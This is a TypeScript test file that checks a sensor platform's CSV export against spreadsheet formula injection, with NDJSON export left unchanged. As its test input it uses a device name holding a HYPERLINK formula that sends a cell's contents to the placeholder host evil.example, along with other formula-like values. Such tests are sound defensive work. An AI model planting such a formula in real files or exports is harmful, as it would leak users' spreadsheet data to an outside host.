import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { startTestServer, type TestServer } from "./support/server";
import { postgresEngines } from "./support/stores";

/**
 * A CSV export is opened in spreadsheets: text cells that would start a formula get a leading '
 * (OWASP's advice on CSV injection), numbers keep their sign, and NDJSON is left as it is.
 */

const PASSWORD = "correct horse battery";
const DEVICE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

for (const engine of postgresEngines) {
  describe(`CSV export and spreadsheet formulas on ${engine}`, () => {
    let server: TestServer;
    let token: string;
    let siteId: string;
    const t0 = Date.now() - 60_000;

    beforeAll(async () => {
      server = await startTestServer(engine);
      const owner = await server.client().auth.register.mutate({ email: `csv-${engine}@example.com`, password: PASSWORD, displayName: "C", client: "app" });
      token = owner.token!;
      siteId = owner.personalSiteId;
      const api = server.client(token);
      const device = await api.devices.provision.mutate({ siteId, name: DEVICE });
      // A sensor key that starts with "-", reporting negative values, with a unit that is a
      // formula (set before its readings: the export shows the unit a reading was taken in).
      await api.sensors.create.mutate({ siteId, deviceId: device.device.id, key: "-5", metric: "unknown", unit: "@SUM(1+1)" });
      const response = await fetch(`${server.url}/v1/ingest`, {
        method: "POST",
        headers: { authorization: `Bearer ${device.token}`, "content-type": "application/json" },
        body: JSON.stringify({ batchId: "csv-1", readings: [{ sensor: "-5", value: -3.5, ts: t0 }, { sensor: "-5", value: 2, ts: t0 + 1000 }] }),
      });
      expect(response.status).toBe(200);
      await server.settled();
    });
    afterAll(() => server.close());

    const exported = (format: "csv" | "ndjson") =>
      fetch(`${server.url}/v1/export?${new URLSearchParams({ siteId, from: String(t0 - 1000), to: String(t0 + 60_000), format })}`, {
        headers: { authorization: `Bearer ${token}` },
      }).then((r) => r.text());

    test("text cells that would start a formula begin with ' in CSV; negative numbers stay numbers", async () => {
      const lines = (await exported("csv")).trimEnd().split("\n");
      expect(lines).toHaveLength(3);
      const first = lines[1]!;
      // The device name: prefixed, then quoted as CSV quotes any cell with a comma or quote.
      expect(first).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
      expect(first).toContain(",'-5,");
      expect(first).toContain(",'@SUM(1+1),");
      expect(first).toEndWith(",-3.5,-3.5");
      expect(lines[2]).toEndWith(",2,2");
      // No cell of the file starts a formula: every cell, split as CSV, is checked.
      for (const line of lines.slice(1)) {
        const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, "").replace(/^"(.*)"$/s, "$1"));
        const [, , device, sensor, , unit] = cells;
        for (const cell of [device, sensor, unit]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    test("NDJSON carries the names exactly as they are", async () => {
      const rows = (await exported("ndjson")).trimEnd().split("\n").map((l) => JSON.parse(l) as { device: string; sensor: string; unit: string; value: number });
      expect(rows[0]).toMatchObject({ device: DEVICE, sensor: "-5", unit: "@SUM(1+1)", value: -3.5 });
    });
  });
}
